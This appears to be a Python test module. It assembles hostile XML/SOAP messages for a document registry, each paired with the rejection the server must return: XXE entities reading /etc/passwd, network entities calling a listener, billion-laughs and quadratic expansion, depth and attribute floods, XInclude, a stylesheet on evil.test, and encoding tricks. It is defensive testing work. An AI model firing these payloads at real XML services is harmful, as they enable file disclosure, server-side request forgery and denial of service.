"""Attacks on the XML parser, as messages: name to what is sent, what must come back, and a word of its text."""

from __future__ import annotations

import gzip
from collections.abc import Mapping
from dataclasses import dataclass

from tests import samples
from tests.e2e import wire
from tests.e2e.wire import Message

SENDER = "fault Sender"
_MARK = "A report"


@dataclass(frozen=True)
class Attack:
    """A message and the only right answer: its verdict, and a word of its text."""

    message: Message
    verdict: str
    word: str


def _message() -> Message:
    return wire.register(samples.submission(samples.entry(title=_MARK)))


def _with_doctype(doctype: str, value: str = "x") -> Message:
    plain = _message().replaced(_MARK, value)
    return Message(plain.path, plain.content_type, doctype.encode() + plain.body)


def _with_value(value: str | bytes) -> Message:
    return _message().replaced(_MARK, value)


def _in_header(element: str) -> Message:
    return _message().replaced("</s:Header>", f"{element}</s:Header>")


def _recoded(encoding: str) -> Message:
    plain = _message()
    return Message(plain.path, "application/soap+xml", plain.body.decode().encode(encoding))


def _declared(name: str) -> Message:
    plain = _message()
    return Message(plain.path, "application/soap+xml", f'<?xml version="1.0" encoding="{name}"?>'.encode() + plain.body)


def _laughs() -> str:
    entities = ['<!ENTITY a0 "ha">', *(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 11))]
    return f"<!DOCTYPE a [{''.join(entities)}]>"


def xml_attacks(listener: str) -> Mapping[str, Attack]:
    """`listener` is the address of a server that must not be called."""
    message = _message()
    inline = wire.deposit().submission
    big = wire.envelope(wire.PROVIDE, wire.provide_body(inline, (inline.entries[0].entry_uuid, "A" * 10_100_000)))
    return {
        "A1 external entity, file": Attack(
            _with_doctype('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]>', "&x;"), SENDER, "doctype"
        ),
        "A2 external entity, network": Attack(
            _with_doctype(f'<!DOCTYPE a [<!ENTITY x SYSTEM "http://{listener}/x">]>', "&x;"), SENDER, "doctype"
        ),
        "A3 parameter entity": Attack(
            _with_doctype(f'<!DOCTYPE a [<!ENTITY % p SYSTEM "http://{listener}/p"> %p;]>'), SENDER, "doctype"
        ),
        "A3 external subset": Attack(_with_doctype('<!DOCTYPE a SYSTEM "file:///etc/passwd">'), SENDER, "doctype"),
        "A4 billion laughs": Attack(_with_doctype(_laughs(), "&a10;"), SENDER, "doctype"),
        "A5 quadratic blow-up": Attack(
            _with_doctype(f'<!DOCTYPE a [<!ENTITY x "{"y" * 50_000}">]>', "&x;" * 5000), SENDER, "doctype"
        ),
        "A6 default attribute": Attack(
            _with_doctype('<!DOCTYPE a [<!ATTLIST Value ID CDATA "injected">]>'), SENDER, "doctype"
        ),
        "A7 depth 65": Attack(_in_header("<x>" * 65 + "</x>" * 65), SENDER, "depth"),
        "A7 depth 2000": Attack(_in_header("<x>" * 2000 + "</x>" * 2000), SENDER, "depth"),
        "A7 depth 50000": Attack(_in_header("<x>" * 50_000 + "</x>" * 50_000), SENDER, "depth"),
        "A8 huge text": Attack(wire.simple(wire.REPOSITORY, big), SENDER, "size"),
        "A9 attributes": Attack(
            _in_header("<x " + " ".join(f'a{n}=""' for n in range(20_000)) + "/>"), SENDER, "attributes"
        ),
        "A10 namespaces": Attack(
            _in_header("<x " + " ".join(f'xmlns:n{n}="urn:n{n}"' for n in range(10_000)) + "/>"), SENDER, "namespaces"
        ),
        "A11 elements": Attack(_in_header("<x>" + "<b/>" * 210_000 + "</x>"), SENDER, "elements"),
        "A12 XInclude in metadata": Attack(
            _with_value_element('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>'),
            "Failure XDSRegistryMetadataError",
            "rim:Value holds elements",
        ),
        "A13 UTF-16": Attack(_recoded("utf-16"), SENDER, "encoding"),
        "A13 UTF-16 without mark": Attack(_recoded("utf-16-le"), SENDER, "encoding"),
        "A13 UTF-32": Attack(_recoded("utf-32"), SENDER, "encoding"),
        "A13 UTF-7": Attack(message.replaced("<", "+ADw-").replaced(">", "+AD4-"), SENDER, "encoding"),
        "A13 declared UTF-7": Attack(_declared("UTF-7"), SENDER, "encoding"),
        "A13 EBCDIC": Attack(_recoded("cp037"), SENDER, "malformed"),
        "A13 declared EBCDIC": Attack(
            Message(message.path, "application/soap+xml", '<?xml version="1.0" encoding="cp037"?><a/>'.encode("cp037")),
            SENDER,
            "encoding",
        ),
        "A13 declared Latin-1": Attack(_declared("ISO-8859-1"), SENDER, "encoding"),
        "A13 mark and Latin-1": Attack(
            Message(
                message.path,
                "application/soap+xml",
                b'\xef\xbb\xbf<?xml version="1.0" encoding="ISO-8859-1"?>' + message.body,
            ),
            SENDER,
            "encoding",
        ),
        "A13 transport charset": Attack(
            Message(message.path, "application/soap+xml; charset=iso-8859-1", message.body), SENDER, "encoding"
        ),
        "A14 NUL": Attack(_with_value(b"A\0B"), SENDER, "malformed"),
        "A14 reference to NUL": Attack(_with_value("A&#0;B"), SENDER, "malformed"),
        "A14 reference to a control": Attack(_with_value("A&#1;B"), SENDER, "malformed"),
        "A14 overlong UTF-8": Attack(_with_value(b"A\xc0\xafB"), SENDER, "encoding"),
        "A14 lone surrogate": Attack(_with_value(b"A\xed\xa0\x80B"), SENDER, "encoding"),
        "A15 attribute twice": Attack(_in_header('<x ID="1" ID="2"/>'), SENDER, "malformed"),
        "A15 attribute twice by namespace": Attack(
            _in_header('<x xmlns:p="urn:u" xmlns:q="urn:u" p:ID="1" q:ID="2"/>'), SENDER, "malformed"
        ),
        "A15 two ID attributes": Attack(_in_header('<x xmlns:p="urn:u" ID="1" p:ID="2"/>'), SENDER, "ids"),
        "A16 two roots": Attack(Message(message.path, message.content_type, message.body * 2), SENDER, "malformed"),
        "A16 trailing junk": Attack(Message(message.path, message.content_type, message.body + b"x"), SENDER, "malformed"),
        "A16 truncated": Attack(Message(message.path, message.content_type, message.body[:-20]), SENDER, "malformed"),
        "A17 compressed": Attack(
            Message(message.path, message.content_type, gzip.compress(message.body)), SENDER, "malformed"
        ),
        "A17 declared as compressed": Attack(
            Message(message.path, message.content_type, gzip.compress(message.body), ("Content-Encoding: gzip",)),
            "HTTP 415",
            "Content-Encoding",
        ),
        "A17 compressed document": Attack(
            wire.deposit(gzip.compress(b"<a/>"), mime_type="text/xml").message(),
            "Failure InvalidDocumentContent",
            "XML",
        ),
        "A18 stylesheet named inside a slot": Attack(
            _with_value_element("<?xml-stylesheet href='http://evil.test/x.xsl'?><x/>"),
            "Failure XDSRegistryMetadataError",
            "rim:Value holds elements",
        ),
        "A19 long name": Attack(_in_header(f"<{'n' * 60_000}/>"), SENDER, "size"),
        "A20 a stylesheet that is none": Attack(
            wire.deposit(b"<html/>", mime_type="application/xslt+xml").message(),
            "Failure InvalidDocumentContent",
            "stylesheet",
        ),
    }


def _with_value_element(element: str) -> Message:
    """An element inside the value of a slot."""
    return _message().replaced("<Value>fr-FR</Value>", f"<Value>fr-FR{element}</Value>")
